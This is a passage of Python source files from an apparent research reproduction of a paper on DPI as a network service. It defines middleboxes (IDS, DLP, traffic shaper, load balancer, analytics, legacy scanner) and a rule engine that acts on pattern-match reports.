        rows.append(
            (
                instance,
                chain,
                metric.value,
                registry.value(
                    "dpi_chain_bytes_total", instance=instance, chain=chain
                ),
            )
        )
    return rows


def _link_rows(registry) -> list:
    rows = []
    for metric in registry.collect_named("link_packets_total"):
        link = metric.labels.get("link", "")
        if not metric.value:
            continue
        rows.append(
            (
                link,
                metric.value,
                registry.value("link_bytes_total", link=link),
                registry.value("link_drops_total", link=link),
                registry.value("link_queue_depth", link=link),
            )
        )
    return rows


def _span_rows(tracer) -> list:
    counts: dict = {}
    for span in tracer.spans:
        counts[span.name] = counts.get(span.name, 0) + 1
    return sorted(counts.items())


def render_report(hub) -> str:
    """A multi-section text report over the hub's registry and span log."""
    registry = hub.registry
    sections: list[str] = []

    instance_rows = _instance_rows(registry)
    if instance_rows:
        sections.append("DPI instances")
        sections.extend(
            _table(
                ["instance", "packets", "bytes", "matches", "ns/B",
                 "mean us", "p50 us", "p95 us", "p99 us", "flows", "cache"],
                instance_rows,
            )
        )

    chain_rows = _chain_rows(registry)
    if chain_rows:
        sections.append("")
        sections.append("Policy chains")
        sections.extend(
            _table(["instance", "chain", "packets", "bytes"], chain_rows)
        )

    link_rows = _link_rows(registry)
    if link_rows:
        sections.append("")
        sections.append("Links")
        sections.extend(
            _table(["link", "packets", "bytes", "drops", "queue"], link_rows)
        )

    sim_events = registry.value("sim_events_processed", default=None)
    if sim_events is not None:
        sections.append("")
        sections.append(
            f"Simulator: {sim_events} events, clock "
            f"{registry.value('sim_clock_seconds', default=0.0):.6f}s, "
            f"{registry.value('sim_pending_events', default=0)} pending"
        )

    if hub.tracer is not None:
        span_rows = _span_rows(hub.tracer)
        if span_rows:
            sections.append("")
            sections.append("Spans")
            sections.extend(_table(["name", "count"], span_rows))

    if not sections:
        return "no telemetry recorded\n"
    return "\n".join(sections) + "\n"
