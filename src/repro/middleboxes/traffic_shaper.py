"""Application-aware traffic shaper (Blue Coat PacketShaper-style).

Application patterns (protocol banners, HTTP markers, peer-to-peer
handshakes) classify flows into rate classes; a token bucket per class then
models the shaping.  The shaper never drops on classification alone — only
when a class's bucket runs dry.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.middleboxes.base import Action, DPIServiceMiddlebox
from repro.net.flows import FiveTuple
from repro.net.packet import Packet

DEFAULT_CLASS = "default"


@dataclass
class TokenBucket:
    """A byte token bucket: ``rate_bps`` refills, ``burst_bytes`` caps."""

    rate_bps: float
    burst_bytes: int
    tokens: float = field(default=0.0)
    last_refill: float = 0.0

    def __post_init__(self) -> None:
        if self.rate_bps <= 0:
            raise ValueError(f"rate must be positive: {self.rate_bps}")
        self.tokens = float(self.burst_bytes)

    def try_consume(self, size_bytes: int, now: float) -> bool:
        """Take tokens for one packet; False when the bucket is dry."""
        elapsed = max(0.0, now - self.last_refill)
        self.last_refill = now
        self.tokens = min(
            float(self.burst_bytes), self.tokens + elapsed * self.rate_bps / 8
        )
        if self.tokens >= size_bytes:
            self.tokens -= size_bytes
            return True
        return False


class TrafficShaper(DPIServiceMiddlebox):
    """Classifies flows by application patterns and rate-limits each class."""

    TYPE_NAME = "shaper"
    READ_ONLY = False
    STATEFUL = False
    #: Application classification needs only the first bytes of each packet.
    STOPPING_CONDITION = 512

    def __init__(self, middlebox_id: int, name: str | None = None, **kwargs) -> None:
        super().__init__(middlebox_id, name=name, **kwargs)
        self._rule_class: dict[int, str] = {}
        self._buckets: dict[str, TokenBucket] = {}
        self.flow_classes: dict = {}
        self.shaped_drops = 0
        self.clock = 0.0

    def add_class(
        self, class_name: str, rate_bps: float, burst_bytes: int = 64 * 1024
    ) -> None:
        """Define a rate class with its token bucket."""
        self._buckets[class_name] = TokenBucket(
            rate_bps=rate_bps, burst_bytes=burst_bytes
        )

    def add_app_pattern(
        self, rule_id: int, pattern: bytes, class_name: str, description: str = ""
    ) -> None:
        """Map an application marker pattern to a rate class."""
        if class_name not in self._buckets:
            raise KeyError(f"unknown rate class: {class_name}")
        self.add_literal_rule(
            rule_id, pattern, action=Action.ALERT, description=description
        )
        self._rule_class[rule_id] = class_name

    def class_of_flow(self, flow_key) -> str:
        """The rate class a flow was classified into."""
        return self.flow_classes.get(flow_key, DEFAULT_CLASS)

    def on_rule_hits(self, packet: Packet, hits: list) -> None:
        """Hook called once per processed packet with its rule hits."""
        flow_key = FiveTuple.of(packet).bidirectional_key()
        for hit in hits:
            class_name = self._rule_class.get(hit.rule_id)
            if class_name is not None:
                self.flow_classes[flow_key] = class_name
                break

    def shape(self, packet: Packet, now: float | None = None) -> Action:
        """Apply the flow's rate class to one packet."""
        if now is None:
            now = self.clock
        self.clock = max(self.clock, now)
        flow_key = FiveTuple.of(packet).bidirectional_key()
        class_name = self.class_of_flow(flow_key)
        bucket = self._buckets.get(class_name)
        if bucket is None:
            return Action.FORWARD
        if bucket.try_consume(packet.wire_length, now):
            return Action.FORWARD
        self.shaped_drops += 1
        return Action.DROP
