"""Intrusion Detection System — the paper's canonical *read-only* middlebox.

An IDS never modifies or drops traffic; it only raises alerts.  Because of
that, it can run in the paper's read-only mode: it registers with
``read_only=True`` and may receive only the match results, without the
packets themselves (Section 4.2, option 3).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.middleboxes.base import Action, DPIServiceMiddlebox
from repro.net.packet import Packet


@dataclass(frozen=True)
class Alert:
    """One IDS alert."""

    rule_id: int
    packet_id: int
    severity: str
    description: str


class IntrusionDetectionSystem(DPIServiceMiddlebox):
    """Snort/Bro-like IDS consuming the DPI service."""

    TYPE_NAME = "ids"
    READ_ONLY = True
    STATEFUL = True

    def __init__(self, middlebox_id: int, name: str | None = None, **kwargs) -> None:
        super().__init__(middlebox_id, name=name, **kwargs)
        self.alerts: list[Alert] = []
        self._severities: dict[int, str] = {}

    def add_signature(
        self,
        rule_id: int,
        literal: bytes,
        severity: str = "medium",
        description: str = "",
    ) -> None:
        """Add a one-pattern detection signature (always ALERT — an IDS
        never drops)."""
        self.add_literal_rule(
            rule_id, literal, action=Action.ALERT, description=description
        )
        self._severities[rule_id] = severity

    def add_regex_signature(
        self,
        rule_id: int,
        regex: bytes,
        severity: str = "medium",
        description: str = "",
    ) -> None:
        """Add one regex detection signature."""
        self.add_regex_rule(
            rule_id, regex, action=Action.ALERT, description=description
        )
        self._severities[rule_id] = severity

    def on_rule_hits(self, packet: Packet, hits: list) -> None:
        """Hook called once per processed packet with its rule hits."""
        for hit in hits:
            self.alerts.append(
                Alert(
                    rule_id=hit.rule_id,
                    packet_id=hit.packet_id,
                    severity=self._severities.get(hit.rule_id, "medium"),
                    description="",
                )
            )

    def alerts_by_severity(self) -> dict:
        """Alerts grouped by their severity label."""
        grouped: dict[str, list] = {}
        for alert in self.alerts:
            grouped.setdefault(alert.severity, []).append(alert)
        return grouped
