"""The "Snort plugin" analogue (paper Section 6.1).

The paper ships a small Snort plugin that *parses DPI-service results*
instead of running Snort's own pattern matchers — fewer than 100 lines, with
six lines changed in Snort itself.  :class:`DPIResultsPlugin` plays that
role here: it adapts a legacy middlebox (one built around an embedded
engine) so that its rule logic runs off service reports while its scanning
engine stays idle.
"""

from __future__ import annotations

from repro.core.reports import MatchReport
from repro.middleboxes.base import Action
from repro.middleboxes.legacy import LegacyDPIMiddlebox
from repro.net.packet import Packet


class DPIResultsPlugin:
    """Feeds DPI-service reports into a legacy middlebox's rule engine.

    The wrapped middlebox keeps its rules, statistics and hooks; only the
    source of pattern matches changes.  ``bypassed_scans`` counts how many
    payload scans the plugin saved.
    """

    def __init__(self, middlebox: LegacyDPIMiddlebox) -> None:
        self.middlebox = middlebox
        self.bypassed_scans = 0
        self.bypassed_bytes = 0

    @property
    def middlebox_id(self) -> int:
        """The wrapped middlebox's id."""
        return self.middlebox.middlebox_id

    def consume_report(self, packet: Packet, report: MatchReport) -> Action:
        """Rule evaluation from a service report — no payload scan."""
        self.bypassed_scans += 1
        self.bypassed_bytes += len(packet.payload)
        matches = report.matches_for(self.middlebox.middlebox_id)
        return self.middlebox.process_matches(packet, matches)

    def consume_unmarked(self, packet: Packet) -> Action:
        """Process a packet the service found matchless."""
        self.bypassed_scans += 1
        self.bypassed_bytes += len(packet.payload)
        return self.middlebox.process_matches(packet, [])
