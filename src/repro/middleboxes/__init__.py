"""Middleboxes that consume (or embed) DPI.

Every middlebox type from the paper's Table 1 is represented:

==========================  =====================================
Module                      Middlebox
==========================  =====================================
:mod:`~repro.middleboxes.ids`             Intrusion Detection System (read-only)
:mod:`~repro.middleboxes.ips`             Intrusion Prevention System (inline)
:mod:`~repro.middleboxes.antivirus`       AntiVirus / anti-spam
:mod:`~repro.middleboxes.firewall`        L7 firewall (and the header-only L2-L4 firewall)
:mod:`~repro.middleboxes.load_balancer`   L7 load balancer
:mod:`~repro.middleboxes.dlp`             Data-leakage prevention
:mod:`~repro.middleboxes.traffic_shaper`  Application-aware traffic shaper
:mod:`~repro.middleboxes.analytics`       Network analytics / protocol identification
==========================  =====================================

:mod:`~repro.middleboxes.legacy` holds the baseline — a middlebox with an
*embedded* DPI engine that rescans every packet — and
:mod:`~repro.middleboxes.plugin` the "Snort plugin" analogue that feeds DPI
service results into an existing rule engine.
"""

from repro.middleboxes.base import (
    Action,
    DPIServiceMiddlebox,
    Middlebox,
    MiddleboxChainFunction,
    MonitoringFunction,
    NSHChainFunction,
    Rule,
    RuleEngine,
)
from repro.middleboxes.legacy import LegacyDPIMiddlebox
from repro.middleboxes.ids import IntrusionDetectionSystem
from repro.middleboxes.ips import IntrusionPreventionSystem
from repro.middleboxes.antivirus import AntiVirus
from repro.middleboxes.firewall import L2L4Firewall, L7Firewall
from repro.middleboxes.load_balancer import L7LoadBalancer
from repro.middleboxes.dlp import LeakagePreventionSystem
from repro.middleboxes.traffic_shaper import TrafficShaper
from repro.middleboxes.analytics import ProtocolAnalytics
from repro.middleboxes.plugin import DPIResultsPlugin

__all__ = [
    "Action",
    "Rule",
    "RuleEngine",
    "Middlebox",
    "DPIServiceMiddlebox",
    "MiddleboxChainFunction",
    "MonitoringFunction",
    "NSHChainFunction",
    "LegacyDPIMiddlebox",
    "IntrusionDetectionSystem",
    "IntrusionPreventionSystem",
    "AntiVirus",
    "L2L4Firewall",
    "L7Firewall",
    "L7LoadBalancer",
    "LeakagePreventionSystem",
    "TrafficShaper",
    "ProtocolAnalytics",
    "DPIResultsPlugin",
]
