"""Network analytics / protocol identification (Qosmos-style).

The analytics middlebox maps protocol banner patterns to protocol ids and
keeps per-protocol traffic statistics.  It is read-only and stateless: every
packet is attributed independently by the markers found in it.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.middleboxes.base import Action, DPIServiceMiddlebox
from repro.net.packet import Packet

UNKNOWN_PROTOCOL = "unknown"


@dataclass
class ProtocolCounters:
    """Plain counters container."""
    packets: int = 0
    bytes: int = 0


class ProtocolAnalytics(DPIServiceMiddlebox):
    """Counts packets/bytes per identified application protocol."""

    TYPE_NAME = "analytics"
    READ_ONLY = True
    STATEFUL = False
    #: Banners appear at the start of payloads.
    STOPPING_CONDITION = 256

    def __init__(self, middlebox_id: int, name: str | None = None, **kwargs) -> None:
        super().__init__(middlebox_id, name=name, **kwargs)
        self._rule_protocol: dict[int, str] = {}
        self.counters: dict[str, ProtocolCounters] = {}

    def add_protocol_banner(
        self, rule_id: int, banner: bytes, protocol: str, description: str = ""
    ) -> None:
        """Map a banner pattern to a protocol label."""
        self.add_literal_rule(
            rule_id, banner, action=Action.ALERT, description=description
        )
        self._rule_protocol[rule_id] = protocol

    def on_rule_hits(self, packet: Packet, hits: list) -> None:
        # Called once per processed packet (with or without hits), so every
        # packet is attributed exactly once.
        """Hook called once per processed packet with its rule hits."""
        protocol = UNKNOWN_PROTOCOL
        for hit in hits:
            mapped = self._rule_protocol.get(hit.rule_id)
            if mapped is not None:
                protocol = mapped
                break
        counters = self.counters.setdefault(protocol, ProtocolCounters())
        counters.packets += 1
        counters.bytes += packet.wire_length

    def protocol_share(self) -> dict:
        """Byte share per protocol (fractions summing to 1.0)."""
        total = sum(c.bytes for c in self.counters.values())
        if total == 0:
            return {}
        return {
            protocol: counters.bytes / total
            for protocol, counters in sorted(self.counters.items())
        }
