"""L7 load balancer (F5/A10-style).

Backend pools are selected by application-layer content — URL prefixes and
host markers — which the balancer learns from DPI service matches instead of
parsing the payload itself.  Within a pool, backends are picked by
round-robin with per-flow stickiness.
"""

from __future__ import annotations

import itertools

from repro.middleboxes.base import Action, DPIServiceMiddlebox
from repro.net.flows import FiveTuple
from repro.net.packet import Packet

DEFAULT_POOL = "default"


class L7LoadBalancer(DPIServiceMiddlebox):
    """Content-aware backend selection."""

    TYPE_NAME = "lb"
    READ_ONLY = False
    STATEFUL = False
    #: URL/host routing only needs the HTTP request head.
    STOPPING_CONDITION = 1024

    def __init__(self, middlebox_id: int, name: str | None = None, **kwargs) -> None:
        super().__init__(middlebox_id, name=name, **kwargs)
        self._pools: dict[str, list[str]] = {DEFAULT_POOL: []}
        self._round_robin: dict[str, itertools.cycle] = {}
        self._rule_pool: dict[int, str] = {}
        self.flow_backend: dict = {}
        self.assignments: list[tuple] = []  # (flow key, backend)

    def add_pool(self, pool_name: str, backends: list) -> None:
        """Define a backend pool."""
        if not backends:
            raise ValueError(f"pool {pool_name!r} needs at least one backend")
        self._pools[pool_name] = list(backends)
        self._round_robin[pool_name] = itertools.cycle(backends)

    def add_content_rule(
        self, rule_id: int, marker: bytes, pool_name: str, description: str = ""
    ) -> None:
        """Route flows whose payload contains *marker* to *pool_name*."""
        if pool_name not in self._pools:
            raise KeyError(f"unknown pool: {pool_name}")
        self.add_literal_rule(
            rule_id, marker, action=Action.ALERT, description=description
        )
        self._rule_pool[rule_id] = pool_name

    def on_rule_hits(self, packet: Packet, hits: list) -> None:
        """Hook called once per processed packet with its rule hits."""
        flow_key = FiveTuple.of(packet).bidirectional_key()
        if flow_key in self.flow_backend:
            return  # sticky: first classification wins
        for hit in hits:
            pool_name = self._rule_pool.get(hit.rule_id)
            if pool_name is None:
                continue
            backend = next(self._round_robin[pool_name])
            self.flow_backend[flow_key] = backend
            self.assignments.append((flow_key, backend))
            return

    def backend_of(self, packet: Packet) -> str | None:
        """The backend a packet's flow is pinned to (None = unclassified)."""
        flow_key = FiveTuple.of(packet).bidirectional_key()
        return self.flow_backend.get(flow_key)

    def backend_loads(self) -> dict:
        """Flows per backend — useful to check balancing fairness."""
        loads: dict[str, int] = {}
        for backend in self.flow_backend.values():
            loads[backend] = loads.get(backend, 0) + 1
        return loads
