"""The baseline: a middlebox with an *embedded* DPI engine.

This is what the paper compares against — every middlebox on the chain scans
the packet payload from scratch with its own Aho-Corasick automaton (plus
anchor-prefiltered regexes), exactly like the DPI service does, but
privately.  The throughput comparisons of Figures 9-10 pit pipelines of
these against virtual-DPI instances.
"""

from __future__ import annotations

from repro.core.combined import CombinedAutomaton
from repro.core.patterns import Pattern, PatternKind
from repro.core.regex import RegexPreFilter, split_matches
from repro.core.scanner import MiddleboxProfile, VirtualScanner
from repro.middleboxes.base import Action, Middlebox
from repro.net.flows import FiveTuple
from repro.net.host import NetworkFunction
from repro.net.packet import Packet

#: The private chain id a legacy middlebox uses for its own scanner.
_PRIVATE_CHAIN = 0


class LegacyDPIMiddlebox(Middlebox):
    """A middlebox that performs its own DPI on every packet."""

    TYPE_NAME = "legacy"

    def __init__(
        self,
        middlebox_id: int,
        name: str | None = None,
        rules: list | None = None,
        patterns: list | None = None,
        layout: str = "sparse",
    ) -> None:
        super().__init__(middlebox_id, name=name, rules=rules, patterns=patterns)
        self.layout = layout
        self._scanner: VirtualScanner | None = None
        self._prefilter: RegexPreFilter | None = None
        self.bytes_scanned = 0

    @classmethod
    def from_middlebox(
        cls, middlebox: Middlebox, layout: str = "sparse"
    ) -> "LegacyDPIMiddlebox":
        """A legacy twin of *middlebox*: same identity, rules and patterns,
        but with a private scan engine, compiled and ready.

        This is the graceful-degradation path the paper argues for — "the
        middlebox may keep its legacy DPI module as a fallback": when the
        DPI service becomes unreachable, the chain adapter scans packets
        through this twin until the service reattaches.
        """
        twin = cls(
            middlebox.middlebox_id,
            name=middlebox.name,
            rules=list(middlebox.engine),
            patterns=list(middlebox.patterns),
            layout=layout,
        )
        twin.build_engine()
        return twin

    def build_engine(self) -> None:
        """Compile the private automaton from the current pattern list."""
        self._prefilter = RegexPreFilter()
        literals = []
        for pattern in self.patterns:
            if pattern.kind is PatternKind.LITERAL:
                literals.append(pattern)
            else:
                literals.extend(
                    self._prefilter.add_regex(self.middlebox_id, pattern)
                )
        automaton = CombinedAutomaton(
            {self.middlebox_id: literals}, layout=self.layout
        )
        profile = MiddleboxProfile(
            middlebox_id=self.middlebox_id,
            name=self.name,
            stateful=self.STATEFUL,
            read_only=self.READ_ONLY,
            stopping_condition=self.STOPPING_CONDITION,
        )
        self._scanner = VirtualScanner(
            automaton,
            profiles={self.middlebox_id: profile},
            chain_map={_PRIVATE_CHAIN: (self.middlebox_id,)},
        )

    @property
    def automaton(self) -> CombinedAutomaton:
        """The compiled private automaton."""
        if self._scanner is None:
            raise RuntimeError("call build_engine() first")
        return self._scanner.automaton

    def scan(self, payload: bytes, flow_key=None) -> list:
        """Scan one payload; returns ``(pattern id, position)`` matches."""
        if self._scanner is None:
            raise RuntimeError("call build_engine() first")
        self.bytes_scanned += len(payload)
        result = self._scanner.scan_packet(
            payload, _PRIVATE_CHAIN, flow_key=flow_key
        )
        raw = result.matches_for(self.middlebox_id)
        reportable, anchor_ids = split_matches(raw)
        if anchor_ids or self._prefilter.has_regexes(self.middlebox_id):
            reportable.extend(
                self._prefilter.confirm(self.middlebox_id, payload, anchor_ids)
            )
            reportable.extend(
                self._prefilter.scan_fallback(self.middlebox_id, payload)
            )
        return reportable

    def process_packet(self, packet: Packet, flow_key=None) -> Action:
        """Scan + rule evaluation: the paper's "DPI + counting" baseline."""
        matches = self.scan(packet.payload, flow_key=flow_key)
        return self.process_matches(packet, matches)


class LegacyChainFunction(NetworkFunction):
    """Adapter placing a legacy middlebox on a simulated policy chain."""

    def __init__(self, middlebox: LegacyDPIMiddlebox) -> None:
        self.middlebox = middlebox
        if middlebox._scanner is None:
            middlebox.build_engine()

    def process(self, packet: Packet) -> list[Packet]:
        """Scan the packet with the embedded engine and apply the verdict."""
        if packet.is_result_packet:
            return [packet]
        verdict = self.middlebox.process_packet(
            packet, flow_key=FiveTuple.of(packet)
        )
        return [] if verdict is Action.DROP else [packet]
