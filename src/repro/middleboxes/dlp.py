"""Data Leakage Prevention (Check Point DLP-style).

DLP patterns describe sensitive content: document markers, credential
formats, identifier structures (credit-card-like digit runs, internal
project codenames).  A hit makes the DLP either block the flow ("prevent"
profile) or log an incident ("detect" profile).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.middleboxes.base import Action, DPIServiceMiddlebox
from repro.net.flows import FiveTuple
from repro.net.packet import Packet


@dataclass(frozen=True)
class Incident:
    """One recorded leakage incident."""

    rule_id: int
    packet_id: int
    flow: tuple
    blocked: bool


class LeakagePreventionSystem(DPIServiceMiddlebox):
    """DLP middlebox; ``prevent=True`` blocks, otherwise detect-only."""

    TYPE_NAME = "dlp"
    READ_ONLY = False
    STATEFUL = True

    def __init__(
        self,
        middlebox_id: int,
        name: str | None = None,
        prevent: bool = True,
        **kwargs,
    ) -> None:
        super().__init__(middlebox_id, name=name, **kwargs)
        self.prevent = prevent
        self.incidents: list[Incident] = []

    def add_marker(self, rule_id: int, marker: bytes, description: str = "") -> None:
        """A literal sensitive-content marker (e.g. ``b"CONFIDENTIAL"``)."""
        action = Action.DROP if self.prevent else Action.ALERT
        self.add_literal_rule(rule_id, marker, action=action, description=description)

    def add_identifier_format(
        self, rule_id: int, regex: bytes, description: str = ""
    ) -> None:
        """A structured-identifier format, e.g. credit-card-like digit runs
        (``rb"\\d{4}-\\d{4}-\\d{4}-\\d{4}"``)."""
        action = Action.DROP if self.prevent else Action.ALERT
        self.add_regex_rule(rule_id, regex, action=action, description=description)

    def on_rule_hits(self, packet: Packet, hits: list) -> None:
        """Hook called once per processed packet with its rule hits."""
        flow = FiveTuple.of(packet).bidirectional_key()
        for hit in hits:
            self.incidents.append(
                Incident(
                    rule_id=hit.rule_id,
                    packet_id=packet.packet_id,
                    flow=flow,
                    blocked=self.prevent,
                )
            )
