"""Middlebox abstractions.

The paper's model (Section 4.1): middleboxes operate by *rules* — conditions
over packet content (pattern appearances) plus an action.  The DPI service
only reports pattern appearances; evaluating conditions and executing actions
stays inside the middlebox.

Two concrete bases are provided:

* :class:`DPIServiceMiddlebox` — registers its patterns with the DPI
  controller and evaluates rules from the match reports it receives;
* :class:`~repro.middleboxes.legacy.LegacyDPIMiddlebox` — the baseline that
  embeds its own Aho-Corasick engine and rescans every packet.

:class:`MiddleboxChainFunction` adapts a middlebox to a simulated host on a
policy chain, including the buffering the paper's prototype performs: a data
packet marked as "has matches" waits until its result packet arrives (and
vice versa) before the middlebox processes the pair.
"""

from __future__ import annotations

import enum
import itertools
from dataclasses import dataclass, field

from repro.core.messages import AddPatternsMessage, RegisterMiddleboxMessage
from repro.core.patterns import Pattern, PatternKind
from repro.core.reports import MatchReport
from repro.net.host import NetworkFunction
from repro.net.packet import Packet


class Action(enum.Enum):
    """What a middlebox decides to do with a packet."""

    FORWARD = "forward"
    DROP = "drop"
    ALERT = "alert"  # forward, but log an alert


@dataclass(frozen=True)
class Rule:
    """A middlebox rule: fire *action* when the conditions are met.

    ``pattern_ids`` are the ids (within this middlebox's pattern set) that
    must ALL appear in the packet for the rule to fire (the AND semantics
    Snort rules have across their content conditions).
    """

    rule_id: int
    pattern_ids: tuple
    action: Action = Action.ALERT
    description: str = ""

    def __post_init__(self) -> None:
        if not self.pattern_ids:
            raise ValueError(f"rule {self.rule_id} has no pattern conditions")


@dataclass
class RuleHit:
    """One firing of a rule on one packet."""

    rule_id: int
    packet_id: int
    positions: tuple


class RuleEngine:
    """Evaluates rules against the set of matched pattern ids of a packet."""

    def __init__(self, rules: list | None = None) -> None:
        self._rules: dict[int, Rule] = {}
        # pattern id -> rule ids referencing it (for diagnostics)
        self._by_pattern: dict[int, set] = {}
        for rule in rules or []:
            self.add_rule(rule)

    def add_rule(self, rule: Rule) -> None:
        """Register a rule; raises on duplicate ids."""
        if rule.rule_id in self._rules:
            raise ValueError(f"duplicate rule id: {rule.rule_id}")
        self._rules[rule.rule_id] = rule
        for pattern_id in rule.pattern_ids:
            self._by_pattern.setdefault(pattern_id, set()).add(rule.rule_id)

    def remove_rule(self, rule_id: int) -> Rule:
        """Remove a rule by id; raises KeyError if absent."""
        rule = self._rules.pop(rule_id, None)
        if rule is None:
            raise KeyError(f"no rule with id {rule_id}")
        for pattern_id in rule.pattern_ids:
            self._by_pattern[pattern_id].discard(rule_id)
        return rule

    def __len__(self) -> int:
        return len(self._rules)

    def __iter__(self):
        return iter(sorted(self._rules.values(), key=lambda r: r.rule_id))

    def rules_for_pattern(self, pattern_id: int) -> set:
        """Ids of the rules referencing a pattern id."""
        return set(self._by_pattern.get(pattern_id, ()))

    def evaluate(self, matches: list, packet_id: int = 0) -> list:
        """Fire rules whose pattern conditions all matched.

        *matches* is a ``(pattern id, position)`` list; returns
        :class:`RuleHit` objects, most severe action first (DROP before
        ALERT before FORWARD).

        Only *candidate* rules — those referencing at least one matched
        pattern — are examined, mirroring how signature engines avoid
        touching their full rule set on every packet.  A matchless packet
        costs nothing here."""
        matched_ids: dict[int, list] = {}
        for pattern_id, position in matches:
            matched_ids.setdefault(pattern_id, []).append(position)
        candidate_ids: set[int] = set()
        for pattern_id in matched_ids:
            candidate_ids |= self._by_pattern.get(pattern_id, set())
        hits = []
        for rule_id in sorted(candidate_ids):
            rule = self._rules[rule_id]
            if all(pattern_id in matched_ids for pattern_id in rule.pattern_ids):
                positions = tuple(
                    itertools.chain.from_iterable(
                        matched_ids[pattern_id] for pattern_id in rule.pattern_ids
                    )
                )
                hits.append(
                    RuleHit(
                        rule_id=rule.rule_id, packet_id=packet_id, positions=positions
                    )
                )
        severity = {Action.DROP: 0, Action.ALERT: 1, Action.FORWARD: 2}
        hits.sort(key=lambda hit: (severity[self._rules[hit.rule_id].action], hit.rule_id))
        return hits

    def action_of(self, rule_id: int) -> Action:
        """The action a rule carries."""
        return self._rules[rule_id].action

    def verdict(self, hits: list) -> Action:
        """The packet-level verdict: the most severe action among the hits."""
        verdict = Action.FORWARD
        for hit in hits:
            action = self._rules[hit.rule_id].action
            if action is Action.DROP:
                return Action.DROP
            if action is Action.ALERT:
                verdict = Action.ALERT
        return verdict


@dataclass
class MiddleboxStats:
    """Plain counters container."""
    packets_processed: int = 0
    packets_dropped: int = 0
    alerts: int = 0
    rules_fired: int = 0
    reports_consumed: int = 0


class Middlebox:
    """Common middlebox machinery: identity, rules, patterns, statistics."""

    #: Subclasses override these defaults as the paper's Table 1 dictates.
    TYPE_NAME = "middlebox"
    READ_ONLY = False
    STATEFUL = False
    STOPPING_CONDITION: int | None = None

    def __init__(
        self,
        middlebox_id: int,
        name: str | None = None,
        rules: list | None = None,
        patterns: list | None = None,
    ) -> None:
        self.middlebox_id = middlebox_id
        self.name = name if name is not None else self.TYPE_NAME
        self.engine = RuleEngine(rules)
        self.patterns: list[Pattern] = list(patterns or [])
        self.stats = MiddleboxStats()
        self.alert_log: list[RuleHit] = []

    # --- pattern/rule helpers ------------------------------------------------

    def add_literal_rule(
        self,
        rule_id: int,
        literal: bytes,
        action: Action = Action.ALERT,
        description: str = "",
    ) -> Rule:
        """Convenience: one literal pattern + one rule referencing it."""
        pattern = Pattern(pattern_id=rule_id, data=literal)
        self.patterns.append(pattern)
        rule = Rule(
            rule_id=rule_id,
            pattern_ids=(rule_id,),
            action=action,
            description=description,
        )
        self.engine.add_rule(rule)
        return rule

    def add_regex_rule(
        self,
        rule_id: int,
        regex: bytes,
        action: Action = Action.ALERT,
        description: str = "",
    ) -> Rule:
        """Convenience: one REGEX pattern + one rule referencing it."""
        pattern = Pattern(pattern_id=rule_id, data=regex, kind=PatternKind.REGEX)
        self.patterns.append(pattern)
        rule = Rule(
            rule_id=rule_id,
            pattern_ids=(rule_id,),
            action=action,
            description=description,
        )
        self.engine.add_rule(rule)
        return rule

    # --- processing --------------------------------------------------------------

    def process_matches(self, packet: Packet, matches: list) -> Action:
        """Evaluate rules for one packet given its pattern matches."""
        self.stats.packets_processed += 1
        hits = self.engine.evaluate(matches, packet_id=packet.packet_id)
        self.stats.rules_fired += len(hits)
        verdict = self.engine.verdict(hits)
        if verdict is Action.DROP:
            self.stats.packets_dropped += 1
        elif hits:
            self.stats.alerts += len(hits)
            self.alert_log.extend(hits)
        self.on_rule_hits(packet, hits)
        return verdict

    def on_rule_hits(self, packet: Packet, hits: list) -> None:
        """Hook for subclasses (quarantine, rate classes, backend choice...)."""

    def __repr__(self) -> str:
        return f"<{type(self).__name__} #{self.middlebox_id} {self.name!r}>"


class DPIServiceMiddlebox(Middlebox):
    """A middlebox that outsources DPI to the service (Figure 1(b)).

    It registers its pattern set with the DPI controller and, per packet,
    evaluates its rules on the matches reported by the service instead of
    scanning the payload.
    """

    def registration_message(self) -> RegisterMiddleboxMessage:
        """The JSON registration message for this middlebox."""
        return RegisterMiddleboxMessage(
            middlebox_id=self.middlebox_id,
            name=self.name,
            stateful=self.STATEFUL,
            read_only=self.READ_ONLY,
            stopping_condition=self.STOPPING_CONDITION,
        )

    def patterns_message(self) -> AddPatternsMessage:
        """The JSON message uploading this middlebox's patterns."""
        return AddPatternsMessage(
            middlebox_id=self.middlebox_id, patterns=list(self.patterns)
        )

    def register_with(self, controller) -> None:
        """Register and upload patterns over the JSON control channel."""
        ack = controller.handle_message(self.registration_message().to_json())
        if not ack.ok:
            raise RuntimeError(f"registration rejected: {ack.detail}")
        ack = controller.handle_message(self.patterns_message().to_json())
        if not ack.ok:
            raise RuntimeError(f"pattern upload rejected: {ack.detail}")

    def consume_report(self, packet: Packet, report: MatchReport) -> Action:
        """Process a packet given the DPI service's report for it."""
        self.stats.reports_consumed += 1
        matches = report.matches_for(self.middlebox_id)
        return self.process_matches(packet, matches)

    def consume_unmarked(self, packet: Packet) -> Action:
        """Process a packet the service marked matchless."""
        return self.process_matches(packet, [])

    def consume_results_only(self, result_packet: Packet) -> Action:
        """Read-only mode: evaluate rules from a result packet alone.

        The middlebox never sees the data packet (it is off the data path);
        the verdict is advisory — a read-only middlebox cannot act on the
        packet anyway, only raise alerts/telemetry.
        """
        if not self.READ_ONLY:
            raise TypeError(
                f"{self.name}: results-only mode requires a read-only "
                "middlebox (this one acts on packets)"
            )
        report = MatchReport.decode(result_packet.payload)
        matches = report.matches_for(self.middlebox_id)
        self.stats.reports_consumed += 1
        # Attribute hits to the described data packet, not the carrier.
        described = result_packet.copy()
        if result_packet.describes_packet_id is not None:
            described.packet_id = result_packet.describes_packet_id
        return self.process_matches(described, matches)


class NSHChainFunction(NetworkFunction):
    """Adapter for a middlebox consuming in-band NSH results (Section 4.2,
    option 1).

    Match results ride on the data packet itself as NSH metadata, so there
    is nothing to buffer and packet order cannot split a pair.  The *last*
    DPI-aware middlebox on the chain strips the metadata layer
    (``strip=True``) so legacy hops and the destination see the original
    packet.
    """

    def __init__(self, middlebox: DPIServiceMiddlebox, strip: bool = False) -> None:
        self.middlebox = middlebox
        self.strip = strip

    def process(self, packet: Packet) -> list[Packet]:
        """Handle one received packet; return the packets to send on."""
        if packet.nsh is not None and packet.nsh.metadata:
            report = MatchReport.decode(packet.nsh.metadata)
            verdict = self.middlebox.consume_report(packet, report)
        else:
            verdict = self.middlebox.consume_unmarked(packet)
        if verdict is Action.DROP:
            return []
        if self.strip and packet.nsh is not None:
            packet.nsh = None
            packet.clear_match_mark()
        return [packet]


class MonitoringFunction(NetworkFunction):
